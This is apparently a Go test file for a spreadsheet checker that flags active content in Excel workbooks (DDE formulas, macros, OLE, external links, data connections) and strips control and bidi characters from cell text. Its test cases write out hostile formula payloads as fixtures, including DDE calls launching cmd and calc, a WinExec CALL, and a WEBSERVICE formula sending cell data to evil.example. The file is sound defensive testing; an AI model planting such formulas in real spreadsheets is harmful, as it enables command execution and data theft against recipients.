package sheet

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// withFormula returns the good fixture with formula in cell Z40 of the
// main sheet (a cell the parser does not read).
func withFormula(formula string) func(t testing.TB) []byte {
	return func(t testing.TB) []byte {
		t.Helper()
		f, err := excelize.OpenReader(bytes.NewReader(readFixture(t, "good.xlsx")))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		if err := f.SetCellFormula(SheetMain, "Z40", formula); err != nil {
			t.Fatal(err)
		}
		return fileBytes(t, f)
	}
}

// withParts returns the good fixture with extra zip parts, and the
// content-type override of the workbook replaced by mainType when set.
func withParts(mainType string, parts map[string]string) func(t testing.TB) []byte {
	return func(t testing.TB) []byte {
		t.Helper()
		return rezip(t, readFixture(t, "good.xlsx"), func(zw *zip.Writer, f *zip.File) bool {
			if f.Name == "[Content_Types].xml" {
				b, err := readPart(f, MaxPartSize)
				if err != nil {
					t.Fatal(err)
				}
				s := string(b)
				if mainType != "" {
					s = strings.Replace(s, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", mainType, 1)
				}
				w, _ := zw.Create(f.Name)
				w.Write([]byte(s))
				for name, body := range parts {
					w, _ := zw.Create(name)
					w.Write([]byte(body))
				}
				return true
			}
			return false
		})
	}
}

// TestActiveContent: every kind of active content in a workbook is found
// and named in the warning; the plain template and a good sheet have none,
// and the sheet with active content still parses (the file is flagged,
// not refused).
func TestActiveContent(t *testing.T) {
	const macroType = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	tests := []struct {
		name  string
		build func(t testing.TB) []byte
		kind  RiskKind
		words []string // in the warning
	}{
		{"dde", withFormula(`cmd|'/C calc'!A0`), RiskDDE, []string{"DDE 公式", "cmd|'/C calc'!A0", SheetMain + "!Z40"}},
		{"dde msexcel", withFormula(`MSEXCEL|'\..\..\Windows\System32\cmd.exe /c calc.exe'!''`), RiskDDE, []string{"DDE 公式"}},
		{"dde unquoted", withFormula(`SUM(1)+DDEAPP|TOPIC!ITEM`), RiskDDE, []string{"DDE 公式"}},
		{"ddeauto", withFormula(`DDEAUTO("cmd","/c calc")`), RiskDDE, []string{"DDE 公式"}},
		{"webservice", withFormula(`WEBSERVICE("http://evil.example/?d="&B1)`), RiskWebService, []string{"WEBSERVICE", "evil.example"}},
		{"webservice xlfn", withFormula(`_xlfn.WEBSERVICE("http://evil.example/")`), RiskWebService, []string{"WEBSERVICE"}},
		{"hyperlink", withFormula(`HYPERLINK("http://evil.example/","点击查看")`), RiskHyperlink, []string{"HYPERLINK"}},
		{"external formula", withFormula(`[1]Sheet1!A1+1`), RiskExternalLink, []string{"外部链接", "[1]Sheet1!A1"}},
		{"external named", withFormula(`SUM('[预算.xlsx]Sheet1'!A1:A3)`), RiskExternalLink, []string{"外部链接"}},
		{"xlm call", withFormula(`CALL("kernel32","WinExec","JCJ","calc",0)`), RiskMacro, []string{"宏"}},
		{"externalLinks part", withParts("", map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink/>`}), RiskExternalLink, []string{"xl/externalLinks/externalLink1.xml"}},
		{"vba project", withParts(macroType, map[string]string{"xl/vbaProject.bin": "\xd0\xcf\x11\xe0 vba"}), RiskMacro, []string{"宏", "xl/vbaProject.bin", "请勿启用宏"}},
		{"xlsm content type", withParts(macroType, nil), RiskMacro, []string{"宏", "[Content_Types].xml"}},
		{"macro sheet", withParts("", map[string]string{"xl/macrosheets/sheet1.xml": `<xm:macrosheet/>`}), RiskMacro, []string{"宏"}},
		{"ole embedding", withParts("", map[string]string{"xl/embeddings/oleObject1.bin": "\xd0\xcf\x11\xe0"}), RiskOLE, []string{"OLE", "xl/embeddings/oleObject1.bin"}},
		{"activex", withParts("", map[string]string{"xl/activeX/activeX1.xml": "<ax/>"}), RiskOLE, []string{"ActiveX"}},
		{"connections", withParts("", map[string]string{"xl/connections.xml": `<connections/>`}), RiskConnection, []string{"外部数据连接", "xl/connections.xml"}},
		{"query table", withParts("", map[string]string{"xl/queryTables/queryTable1.xml": `<queryTable/>`}), RiskConnection, []string{"外部数据连接"}},
		{"legacy xls macro", func(t testing.TB) []byte {
			return append(append(append([]byte{}, oleMagic...), make([]byte, 504)...), utf16le("_VBA_PROJECT_CUR")...)
		}, RiskMacro, []string{"宏"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := tt.build(t)
			risks := ActiveContent(data)
			found := false
			for _, r := range risks {
				found = found || r.Kind == tt.kind
			}
			if !found {
				t.Fatalf("no %s found: %+v", tt.kind, risks)
			}
			w := ActiveWarning("考核表.xlsx", risks)
			for _, s := range append(tt.words, "附件“考核表.xlsx”含有", "打开时可能执行外部程序") {
				if !strings.Contains(w, s) {
					t.Errorf("warning lacks %q: %s", s, w)
				}
			}
			if bytes.HasPrefix(data, zipMagic) && !strings.Contains(tt.name, "macro sheet") {
				if _, err := Parse(data, testOpts()); err != nil {
					t.Errorf("a flagged sheet no longer parses: %v", err)
				}
			}
		})
	}
	// A pipe inside a text literal is no DDE call.
	if r := ActiveContent(withFormula(`CONCATENATE("a|'b'!c","x")`)(t)); len(r) != 0 {
		t.Errorf("a text literal flagged: %+v", r)
	}
	for _, name := range []string{"good.xlsx", "libreoffice.xlsx", "legacy.xls", "not_sheet.pdf"} {
		if r := ActiveContent(readFixture(t, name)); len(r) != 0 {
			t.Errorf("%s: %+v", name, r)
		}
	}
	var tmpl bytes.Buffer
	if err := Template(&tmpl); err != nil {
		t.Fatal(err)
	}
	if r := ActiveContent(tmpl.Bytes()); len(r) != 0 {
		t.Errorf("template: %+v", r)
	}
	if ActiveWarning("x", nil) != "" {
		t.Error("a warning without risks")
	}
}

// FuzzActiveContent: whatever the bytes, ActiveContent returns (it never
// panics) and its warning is one clean line.
func FuzzActiveContent(f *testing.F) {
	f.Add([]byte("PK\x03\x04"))
	f.Add(oleMagic)
	f.Add(readFixture(f, "good.xlsx"))
	f.Add(withFormula(`cmd|'/C calc'!A0`)(f))
	f.Add(withParts("", map[string]string{"xl/connections.xml": "<connections/>"})(f))
	f.Fuzz(func(t *testing.T, data []byte) {
		r := ActiveContent(data)
		w := ActiveWarning("a\x1b.xlsx", r)
		if strings.ContainsAny(w, "\n\r\x1b\x00") {
			t.Fatalf("warning %q", w)
		}
	})
}

// TestCellTextClean: text taken from cells is data: control, bidi and
// zero-width characters are gone from what Parse returns, line breaks in a
// list cell still separate its items.
func TestCellTextClean(t *testing.T) {
	x := goodSheet(t)
	x.set(t, keyFiler, "周\u202e强\u200b\u2069")
	x.set(t, keyBanks, "晋商银行\u2066晋中分行\n山西银行晋中分行\u200d")
	rep, err := Parse(x.bytes(t), testOpts())
	if err != nil {
		t.Fatal(err)
	}
	if rep.Filer != "周强" {
		t.Errorf("filer %q", rep.Filer)
	}
	if strings.Join(rep.PartnerBanks, "|") != "晋商银行晋中分行|山西银行晋中分行" {
		t.Errorf("banks %q", rep.PartnerBanks)
	}
}

// BenchmarkActiveContent is the cost of checking one monthly sheet (what
// kjjr review adds per listed workbook, and the inbox per kept one).
func BenchmarkActiveContent(b *testing.B) {
	data := readFixture(b, "good.xlsx")
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if r := ActiveContent(data); len(r) != 0 {
			b.Fatal(r)
		}
	}
}
